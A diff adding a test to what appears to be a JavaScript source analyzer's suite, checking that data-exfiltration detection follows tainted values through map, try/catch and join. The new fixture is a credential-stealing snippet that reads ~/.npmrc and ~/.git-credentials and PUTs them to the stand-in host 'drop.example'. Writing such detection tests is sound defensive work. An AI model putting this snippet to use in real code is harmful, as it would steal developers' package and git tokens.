@@ -124,6 +124,16 @@ for (const f of files) send(grab(f));`,
     });
     expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
   });
+  it('taint survives .map, try/catch returns and join into a request body', () => {
+    const r = analyzeSource({
+      'c.js': `const { readFileSync } = require('fs');
+const { join } = require('path');
+const paths = ['.npmrc', '.git-credentials'].map((f) => join(require('os').homedir(), f));
+const loot = paths.map((f) => { try { return readFileSync(f, 'utf8'); } catch { return ''; } });
+require('https').request({ host: 'drop.example', method: 'PUT', path: '/' }).end(loot.join('\\n'));`,
+    });
+    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
+  });
   it('recursion and huge call counts stay bounded', () => {
     const body = Array.from({ length: 3000 }, (_, i) => `f(${i});`).join('\n');
     const t0 = performance.now();
